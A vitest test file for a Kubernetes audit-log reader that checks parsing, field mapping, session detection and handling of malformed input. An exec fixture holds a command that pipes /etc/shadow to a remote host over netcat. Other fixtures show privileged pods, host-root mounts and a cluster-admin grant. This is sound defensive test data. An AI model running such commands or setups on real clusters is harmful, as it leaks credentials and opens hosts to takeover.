import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { collect, utf8 } from '../test-support.js';
import { K8sAuditReader, type K8sAuditLimits } from './k8saudit-reader.js';

const parse = (bytes: Uint8Array, chunkSize = 0, limits: K8sAuditLimits = {}) =>
  collect(bytes, chunkSize, { kind: 'k8saudit' }, (o, s) => new K8sAuditReader(o, s, limits));
const attrs = (row: Record<string, unknown>) => row.attrs as Record<string, string[]>;

/** A v1 audit event; `over` replaces members. */
function event(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: 'a-1', stage: 'ResponseComplete',
    requestURI: '/api/v1/namespaces/prod/pods/web-0', verb: 'get',
    user: { username: 'alice', groups: ['dev', 'system:authenticated'] }, sourceIPs: ['10.0.0.7', '10.0.0.1'], userAgent: 'kubectl/v1.30.0',
    objectRef: { resource: 'pods', namespace: 'prod', name: 'web-0', apiVersion: 'v1' }, responseStatus: { metadata: {}, code: 200 },
    requestReceivedTimestamp: '2024-05-01T10:00:00.000100Z', stageTimestamp: '2024-05-01T10:00:00.002300Z',
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed' },
    ...over,
  };
}
const lines = (...events: unknown[]) => utf8(events.map((e) => JSON.stringify(e)).join('\n') + '\n');

describe('K8sAuditReader packing', () => {
  const three = [event({ auditID: 'a-1' }), event({ auditID: 'a-2', verb: 'list' }), event({ auditID: 'a-3', verb: 'delete' })];

  it('reads JSON lines, a pretty array, an EventList, an array of EventLists alike', async () => {
    const list = { kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: three };
    const inputs = {
      lines: lines(...three),
      array: utf8(JSON.stringify(three, null, 2)),
      list: utf8(JSON.stringify(list)),
      listPretty: utf8(JSON.stringify(list, null, 1)),
      arrayOfLists: utf8(JSON.stringify([{ ...list, items: three.slice(0, 2) }, { ...list, items: three.slice(2) }])),
    };
    for (const [name, bytes] of Object.entries(inputs)) {
      const { rows, summary } = await parse(bytes);
      expect({ name, events: summary.events, warnings: summary.warningCount }).toEqual({ name, events: 3, warnings: 0 });
      expect(rows.map((r) => [r.evt_num, r.request_id, r.evt_type])).toEqual([[1n, 'a-1', 'get'], [2n, 'a-2', 'list'], [3n, 'a-3', 'delete']]);
      const text = new TextDecoder().decode(bytes);
      for (const row of rows) {
        const slice = text.slice(Number(row.src_offset), Number(row.src_offset) + (row.src_length as number));
        expect(slice).toBe(row.raw);
        expect(JSON.parse(slice).auditID).toBe(row.request_id);
      }
    }
  });

  it('gives identical rows for 1-, 7-, 4096-byte and whole chunks, and through gzip', async () => {
    const bytes = utf8(JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: three }, null, 2));
    const whole = await parse(bytes);
    for (const size of [1, 7, 4096]) expect((await parse(bytes, size)).rows).toEqual(whole.rows);
    expect((await parse(new Uint8Array(gzipSync(bytes)), 5)).rows).toEqual(whole.rows);
  });

  it('numbers from evtNumBase and writes the source id', async () => {
    const { rows } = await collect(lines(...three), 0, { kind: 'k8saudit', sourceId: 4, evtNumBase: 100 }, (o, s) => new K8sAuditReader(o, s));
    expect(rows.map((r) => [r.evt_num, r.source_id])).toEqual([[101n, 4], [102n, 4], [103n, 4]]);
  });
});

describe('K8sAuditReader columns', () => {
  it('maps the common columns and the ka.* fields of a plain request', async () => {
    const { rows } = await parse(lines(event()));
    expect(rows[0]).toMatchObject({
      source_kind: 'k8saudit', evt_type: 'get', evt_category: 'k8s-api', ts: 1714557600002300000n, latency_ns: 2_200_000n,
      actor: 'alice', actor_type: 'k8s-user', src_ip: '10.0.0.7', user_agent: 'kubectl/v1.30.0', k8s_ns: 'prod', k8s_pod: 'web-0',
      target: 'pods prod/web-0', outcome: '200', res: 200n, failed: false, request_id: 'a-1', args: 'get /api/v1/namespaces/prod/pods/web-0',
      cmdline: null, k8s_container: null, hidden: null,
    });
    expect(attrs(rows[0])).toEqual({
      'ka.auditid': ['a-1'], 'ka.stage': ['ResponseComplete'], 'ka.level': ['Metadata'], 'ka.verb': ['get'], 'ka.user.name': ['alice'],
      'ka.user.groups': ['dev', 'system:authenticated'], 'ka.sourceips': ['10.0.0.7', '10.0.0.1'], 'ka.useragent': ['kubectl/v1.30.0'],
      'ka.auth.decision': ['allow'], 'ka.auth.reason': ['RBAC: allowed'], 'ka.response.code': ['200'],
      'ka.target.resource': ['pods'], 'ka.target.namespace': ['prod'], 'ka.target.name': ['web-0'], 'ka.target.apiversion': ['v1'],
      'ka.uri': ['/api/v1/namespaces/prod/pods/web-0'],
    });
  });

  it('picks ts from stageTimestamp, else requestReceivedTimestamp, else timestamp; keeps nanoseconds and offsets', async () => {
    const { rows, warnings } = await parse(lines(
      event({ stageTimestamp: '2024-05-01T12:00:00.123456789+02:00' }),
      event({ stageTimestamp: undefined, requestReceivedTimestamp: '2024-05-01T10:00:00.5Z' }),
      event({ stageTimestamp: undefined, requestReceivedTimestamp: undefined, timestamp: '1999-12-31T23:59:59Z' }),
      event({ stageTimestamp: 'yesterday', requestReceivedTimestamp: undefined }),
      event({ stageTimestamp: undefined, requestReceivedTimestamp: undefined }),
    ));
    expect(rows.map((r) => r.ts)).toEqual([1714557600123456789n, 1714557600500000000n, 946684799000000000n, null, null]);
    expect(rows[0].latency_ns).toBe(123_356_789n);
    expect(warnings.map((w) => [w.line, w.message])).toEqual([
      [4, expect.stringMatching(/^audit event at line 4 \(byte \d+\): stageTimestamp "yesterday" is not an RFC 3339 time/)],
      [4, expect.stringMatching(/has no valid time stamp/)],
      [5, expect.stringMatching(/has no valid time stamp/)],
    ]);
  });

  it('service accounts, impersonation, forbidden decisions without a code, non-resource URLs', async () => {
    const { rows } = await parse(lines(
      event({ user: { username: 'system:serviceaccount:ci:deployer' }, impersonatedUser: { username: 'root', groups: ['system:masters'] } }),
      event({ stage: 'RequestReceived', responseStatus: undefined, annotations: { 'authorization.k8s.io/decision': 'forbid' } }),
      event({ objectRef: undefined, requestURI: '/healthz?verbose=1', responseStatus: { code: 500, reason: 'InternalError' } }),
    ));
    expect(rows[0]).toMatchObject({ actor: 'system:serviceaccount:ci:deployer', actor_type: 'k8s-serviceaccount' });
    expect(attrs(rows[0])).toMatchObject({ 'ka.impuser.name': ['root'], 'ka.impuser.groups': ['system:masters'] });
    expect(attrs(rows[0])['ka.user.groups']).toBeUndefined();
    expect(rows[1]).toMatchObject({ outcome: 'forbid', failed: true, res: null });
    expect(rows[2]).toMatchObject({ target: '/healthz', k8s_ns: null, k8s_pod: null, failed: true, res: 500n, outcome: '500' });
    expect(attrs(rows[2])).toMatchObject({ 'ka.uri.param[verbose]': ['1'], 'ka.response.reason': ['InternalError'] });
  });
});

describe('K8sAuditReader interactive sessions', () => {
  const pod = { resource: 'pods', namespace: 'prod', name: 'web-0', apiVersion: 'v1' };

  it('exec: argv from the repeated, URL-encoded command parameters; container; every stage marked', async () => {
    const uri = '/api/v1/namespaces/prod/pods/web-0/exec?command=sh&command=-c&command=cat+%2Fetc%2Fshadow%20%7C%20nc%2010.1.1.1%204444&container=app&stdin=true&tty=true';
    const { rows } = await parse(lines(
      event({ stage: 'RequestReceived', verb: 'create', requestURI: uri, objectRef: { ...pod, subresource: 'exec' }, responseStatus: undefined }),
      event({ stage: 'ResponseStarted', verb: 'get', requestURI: uri, objectRef: { ...pod, subresource: 'exec' }, responseStatus: { code: 101 } }),
    ));
    for (const row of rows) {
      expect(row).toMatchObject({ evt_category: 'k8s-session', cmdline: 'sh -c cat /etc/shadow | nc 10.1.1.1 4444', k8s_container: 'app', k8s_pod: 'web-0' });
      expect(attrs(row)).toMatchObject({ 'ka.session': ['exec'], 'ka.uri.param[command]': ['sh', '-c', 'cat /etc/shadow | nc 10.1.1.1 4444'], 'ka.uri.param[container]': ['app'] });
    }
  });

  it('attach and portforward are sessions; logs and other subresources are not', async () => {
    const { rows } = await parse(lines(
      event({ verb: 'create', requestURI: '/api/v1/namespaces/prod/pods/web-0/attach?container=app&stdin=true', objectRef: { ...pod, subresource: 'attach' } }),
      event({ verb: 'get', requestURI: '/api/v1/namespaces/prod/pods/web-0/portforward?ports=5432', objectRef: { ...pod, subresource: 'portforward' } }),
      event({ verb: 'get', requestURI: '/api/v1/namespaces/prod/pods/web-0/log?container=app', objectRef: { ...pod, subresource: 'log' } }),
      event({ verb: 'create', objectRef: { resource: 'deployments', subresource: 'exec', namespace: 'prod', name: 'x' } }),
    ));
    expect(rows.map((r) => [r.evt_category, attrs(r)['ka.session']?.[0] ?? null, r.k8s_container])).toEqual([
      ['k8s-session', 'attach', 'app'], ['k8s-session', 'portforward', null], ['k8s-api', null, null], ['k8s-api', null, null],
    ]);
    expect(attrs(rows[1])['ka.uri.param[ports]']).toEqual(['5432']);
  });

  it('kubectl debug: a patch of pods/ephemeralcontainers names the added container and its command', async () => {
    const requestObject = { spec: { ephemeralContainers: [
      { name: 'debugger-old', image: 'busybox' },
      { name: 'debugger-x7k2p', image: 'busybox:1.36', command: ['sh'], args: ['-c', 'id'], stdin: true, tty: true, targetContainerName: 'app', securityContext: { privileged: true } },
    ] } };
    const { rows } = await parse(lines(
      event({ verb: 'patch', level: 'Request', requestURI: '/api/v1/namespaces/prod/pods/web-0/ephemeralcontainers', objectRef: { ...pod, subresource: 'ephemeralcontainers' }, requestObject }),
      event({ verb: 'get', requestURI: '/api/v1/namespaces/prod/pods/web-0/ephemeralcontainers', objectRef: { ...pod, subresource: 'ephemeralcontainers' } }),
    ));
    expect(rows[0]).toMatchObject({ evt_category: 'k8s-session', k8s_container: 'debugger-x7k2p', cmdline: 'sh -c id', target: 'pods/ephemeralcontainers prod/web-0' });
    expect(JSON.parse(rows[0].args_json as string)).toEqual(requestObject);
    expect(attrs(rows[0])).toMatchObject({
      'ka.session': ['debug'], 'ka.req.pod.ephemeralContainers.name': ['debugger-old', 'debugger-x7k2p'],
      'ka.req.pod.ephemeralContainers.image.repository': ['busybox', 'busybox'], 'ka.req.pod.ephemeralContainers.privileged': ['true'],
      'ka.req.pod.ephemeralContainers.command': ['sh'], 'ka.req.pod.ephemeralContainers.args': ['-c id'],
    });
    expect(attrs(rows[0])['ka.req.pod.ephemeralContainers.host_port']).toBeUndefined();
    expect(rows[1].evt_category).toBe('k8s-api');
  });
});

describe('K8sAuditReader request objects', () => {
  it('pod spec: host namespaces, hostPath volumes, per-container security, repositories without tag or digest', async () => {
    const spec = {
      hostNetwork: true, hostPID: true, hostIPC: false, securityContext: { runAsUser: 1000, fsGroup: 2000, supplementalGroups: [5, 6] },
      volumes: [{ name: 'root', hostPath: { path: '/', type: 'Directory' } }, { name: 'sock', hostPath: { path: '/var/run/docker.sock' } }, { name: 'cfg', configMap: { name: 'c' } }],
      initContainers: [{ name: 'init', image: 'alpine@sha256:abc' }],
      containers: [
        { name: 'a', image: 'registry:5000/team/app:1.0', command: ['/bin/app'], args: ['--x', '1'], ports: [{ containerPort: 80 }, { containerPort: 443, hostPort: 8443 }],
          securityContext: { privileged: true, allowPrivilegeEscalation: true, capabilities: { add: ['SYS_ADMIN', 'NET_RAW'] }, runAsUser: 0 } },
        { name: 'b', image: 'nginx', securityContext: { readOnlyRootFilesystem: true } },
      ],
    };
    const { rows } = await parse(lines(event({ verb: 'create', level: 'Request', objectRef: { resource: 'pods', namespace: 'prod', apiVersion: 'v1' }, requestObject: { kind: 'Pod', spec } })));
    expect(attrs(rows[0])).toMatchObject({
      'ka.req.pod.host_network': ['true'], 'ka.req.pod.host_pid': ['true'], 'ka.req.pod.host_ipc': ['false'], 'ka.req.container.host_network': ['true'],
      'ka.req.pod.volumes.hostpath': ['/', '/var/run/docker.sock'], 'ka.req.pod.volumes.volume_type': ['hostPath', 'hostPath', 'configMap'],
      'ka.req.pod.containers.name': ['a', 'b'], 'ka.req.pod.containers.image': ['registry:5000/team/app:1.0', 'nginx'],
      'ka.req.pod.containers.image.repository': ['registry:5000/team/app', 'nginx'], 'ka.req.pod.containers.privileged': ['true'],
      'ka.req.container.privileged': ['true'], 'ka.req.container.image': ['registry:5000/team/app:1.0'],
      'ka.req.pod.containers.add_capabilities': ['SYS_ADMIN', 'NET_RAW'], 'ka.req.pod.containers.read_only_fs': ['true'],
      'ka.req.pod.containers.allow_privilege_escalation': ['true'], 'ka.req.pod.containers.host_port': ['80', '8443'],
      'ka.req.pod.containers.command': ['/bin/app'], 'ka.req.pod.containers.args': ['--x 1'],
      'ka.req.pod.containers.run_as_user': ['0'], 'ka.req.pod.containers.eff_run_as_user': ['0', '1000'], 'ka.req.pod.containers.eff_run_as_group': ['0', '0'],
      'ka.req.pod.run_as_user': ['1000'], 'ka.req.pod.fs_group': ['2000'], 'ka.req.pod.supplemental_groups': ['5', '6'],
      'ka.req.pod.initContainers.image.repository': ['alpine'],
    });
    expect(rows[0].k8s_pod).toBeNull(); // no name in objectRef and no response object
  });

  it('roles, bindings, services and configmaps give their own fields; other resources none', async () => {
    const { rows } = await parse(lines(
      event({ verb: 'create', objectRef: { resource: 'clusterroles', name: 'r' }, requestObject: { rules: [{ apiGroups: [''], resources: ['pods/exec', 'secrets'], verbs: ['*'] }, { nonResourceURLs: ['/metrics'], verbs: ['get'] }] } }),
      event({ verb: 'create', objectRef: { resource: 'clusterrolebindings', name: 'b' }, requestObject: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'User', name: 'mallory' }, { kind: 'ServiceAccount', name: 'sa', namespace: 'kube-system' }, { kind: 'Group', name: 'devs' }] } }),
      event({ verb: 'create', objectRef: { resource: 'services', namespace: 'prod', name: 's' }, requestObject: { spec: { type: 'NodePort', ports: [{ port: 80, nodePort: 30080 }] } } }),
      event({ verb: 'update', objectRef: { resource: 'configmaps', namespace: 'prod', name: 'cm' }, requestObject: { data: { password: 'x' } } }),
      event({ verb: 'create', objectRef: { resource: 'deployments', namespace: 'prod', name: 'd' }, requestObject: { spec: { template: { spec: { hostNetwork: true } } } } }),
    ));
    expect(attrs(rows[0])).toMatchObject({
      'ka.req.role.rules.apiGroups': [''], 'ka.req.role.rules.resources': ['pods/exec', 'secrets'], 'ka.req.role.rules.verbs': ['*', 'get'],
      'ka.req.role.rules.nonResourceURLs': ['/metrics'], 'ka.req.role.rules': [JSON.stringify({ apiGroups: [''], resources: ['pods/exec', 'secrets'], verbs: ['*'] }), expect.any(String)],
    });
    expect(attrs(rows[1])).toMatchObject({
      'ka.req.binding.role': ['cluster-admin'], 'ka.req.binding.subjects.user_names': ['mallory'], 'ka.req.binding.subjects.group_names': ['devs'],
      'ka.req.binding.subjects.serviceaccount_names': ['sa'], 'ka.req.binding.subjects.serviceaccount_ns_names': ['kube-system:sa'],
    });
    expect(attrs(rows[1])['ka.req.binding.subjects']).toHaveLength(3);
    expect(attrs(rows[2])).toMatchObject({ 'ka.req.service.type': ['NodePort'], 'ka.req.service.ports': ['{"port":80,"nodePort":30080}'] });
    expect(attrs(rows[3])).toMatchObject({ 'ka.req.configmap.name': ['cm'], 'ka.req.configmap.obj': ['{"password":"x"}'] });
    expect(Object.keys(attrs(rows[4])).filter((k) => k.startsWith('ka.req.'))).toEqual([]);
    expect(rows[4].args_json).toBe('{"spec":{"template":{"spec":{"hostNetwork":true}}}}');
  });
});

describe('K8sAuditReader bad input', () => {
  it('skips broken JSON, non-JSON lines, other kinds and API versions with their line and byte; keeps every good event', async () => {
    const good = JSON.stringify(event());
    const text = [
      good,
      '{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"broken",', // cut record
      'I0501 10:00:00.000000 1 log.go:194] apiserver started', // klog line
      JSON.stringify({ kind: 'Event', apiVersion: 'v1', metadata: { name: 'web-0.17a' }, reason: 'Pulled' }), // a core Event
      JSON.stringify({ kind: 'Status', apiVersion: 'audit.k8s.io/v1' }),
      JSON.stringify({ hello: 'world' }),
      '[1, 2]',
      JSON.stringify(event({ auditID: 'a-2' })),
    ].join('\n') + '\n';
    const { rows, warnings, summary } = await parse(utf8(text));
    expect(rows.map((r) => r.request_id)).toEqual(['a-1', 'a-2']);
    expect(rows[1].evt_num).toBe(2n);
    const offsetOf = (line: number) => text.split('\n').slice(0, line - 1).join('\n').length + (line > 1 ? 1 : 0);
    expect(warnings.map((w) => [w.line, w.offset])).toEqual([[2, offsetOf(2)], [3, offsetOf(3)], [4, offsetOf(4)], [5, offsetOf(5)], [6, offsetOf(6)], [7, offsetOf(7) + 1]]);
    expect(warnings[0].message).toMatch(/broken/);
    expect(warnings[2].message).toMatch(/apiVersion "v1" is not audit.k8s.io/);
    expect(warnings[3].message).toMatch(/kind "Status" is not Event/);
    expect(warnings[4].message).toMatch(/no auditID/);
    expect(summary).toMatchObject({ kind: 'k8saudit', events: 2 });
  });

  it('reports many non-JSON lines once each for the first ten, then as one count', async () => {
    const noise = Array.from({ length: 25 }, (_, i) => `noise ${i}`);
    const { rows, warnings } = await parse(utf8([...noise, JSON.stringify(event())].join('\n')));
    expect(rows).toHaveLength(1);
    expect(warnings).toHaveLength(11);
    expect(warnings[10].message).toBe('25 lines in all were not JSON and were skipped (the first 10 were reported one by one)');
  });

  it('a truncated file keeps the events before the cut; a truncated gzip too', async () => {
    const bytes = lines(event({ auditID: 'a-1' }), event({ auditID: 'a-2' }), event({ auditID: 'a-3' }));
    const cut = bytes.subarray(0, bytes.length - 40);
    const plain = await parse(cut, 7);
    expect(plain.rows.map((r) => r.request_id)).toEqual(['a-1', 'a-2']);
    expect(plain.warnings.at(-1)?.message).toMatch(/ends inside a JSON record/);
    const gz = new Uint8Array(gzipSync(lines(...Array.from({ length: 400 }, (_, i) => event({ auditID: `g-${i}`, requestURI: `/api/v1/x/${i}` })))));
    const broken = await parse(gz.subarray(0, Math.floor(gz.length * 0.6)), 1000);
    expect(broken.end.type).toBe('error');
    expect(broken.rows.length).toBeGreaterThan(50);
    expect(broken.rows.map((r) => r.request_id)).toEqual(Array.from({ length: broken.rows.length }, (_, i) => `g-${i}`));
  });

  it('non-UTF-8 bytes are replaced and reported; the event is kept', async () => {
    const head = utf8(JSON.stringify(event({ userAgent: 'X' })).replace('"X"', '"AGENT"'));
    const at = new TextDecoder().decode(head).indexOf('AGENT');
    const bytes = new Uint8Array([...head, 0x0a]);
    bytes[at + 1] = 0xff;
    const { rows, warnings } = await parse(bytes);
    expect(rows[0].user_agent).toBe('A\uFFFDENT');
    expect(warnings).toEqual([expect.objectContaining({ offset: 0, line: 1, message: expect.stringMatching(/not UTF-8/) })]);
  });

  it('a record over the size limit is skipped and counted; an 11 MB record under it is kept whole', async () => {
    const big = 'x'.repeat(11 * 1024 * 1024);
    const huge = JSON.stringify(event({ auditID: 'big', level: 'RequestResponse', verb: 'create', objectRef: { resource: 'configmaps', namespace: 'prod', name: 'cm' }, requestObject: { data: { blob: big } } }));
    const bytes = utf8([JSON.stringify(event({ auditID: 'a-1' })), huge, JSON.stringify(event({ auditID: 'a-2' }))].join('\n') + '\n');
    const kept = await parse(bytes);
    expect(kept.rows.map((r) => r.request_id)).toEqual(['a-1', 'big', 'a-2']);
    expect((kept.rows[1].raw as string).length).toBe(huge.length);
    expect(attrs(kept.rows[1])['ka.req.configmap.obj'][0]).toHaveLength(64 * 1024);
    expect(kept.warnings).toEqual([expect.objectContaining({ line: 2, message: expect.stringMatching(/ka.req.configmap.obj is longer than 65536 characters; it was cut/) })]);
    const limited = await parse(bytes, 1 << 20, { maxRecordBytes: 10 * 1024 * 1024 });
    expect(limited.rows.map((r) => r.request_id)).toEqual(['a-1', 'a-2']);
    expect(limited.warnings).toEqual([expect.objectContaining({ line: 2, message: expect.stringMatching(/over the 10485760-byte limit; it was skipped/) })]);
  });

  it('keeps at most 64 query parameter names per URI and says so', async () => {
    const query = Array.from({ length: 70 }, (_, i) => `p${i}=${i}`).join('&');
    const { rows, warnings } = await parse(lines(event({ requestURI: `/api?${query}&p0=again&bad=%zz%41` })));
    const params = Object.keys(attrs(rows[0])).filter((k) => k.startsWith('ka.uri.param['));
    expect(params).toHaveLength(64);
    expect(attrs(rows[0])['ka.uri.param[p0]']).toEqual(['0', 'again']);
    expect(warnings[0].message).toMatch(/more than 64 distinct query parameters; 7 were not kept/);
  });

  it('an EventList with a broken item: the other items are kept with their exact byte ranges', async () => {
    const text = `{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[${JSON.stringify(event({ auditID: 'l-1' }))},\n{"auditID": tru},\n${JSON.stringify(event({ auditID: 'l-2' }))}]}`;
    const { rows, warnings } = await parse(utf8(text), 3);
    expect(rows.map((r) => r.request_id)).toEqual(['l-1', 'l-2']);
    for (const row of rows) expect(text.slice(Number(row.src_offset), Number(row.src_offset) + (row.src_length as number))).toBe(row.raw);
    expect(warnings).toEqual([expect.objectContaining({ line: 2, offset: text.indexOf('{"auditID": tru}'), message: expect.stringMatching(/is not valid JSON/) })]);
  });

  it('an EventList nested in an EventList is skipped with a warning', async () => {
    const inner = { kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [event({ auditID: 'deep' })] };
    const text = JSON.stringify([{ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [event({ auditID: 'l-1' }), inner] }]);
    const { rows, warnings } = await parse(utf8(text));
    expect(rows.map((r) => r.request_id)).toEqual(['l-1']);
    expect(warnings).toEqual([expect.objectContaining({ offset: text.indexOf('{"kind":"EventList"', 5), message: expect.stringMatching(/nested in an EventList/) })]);
  });
});
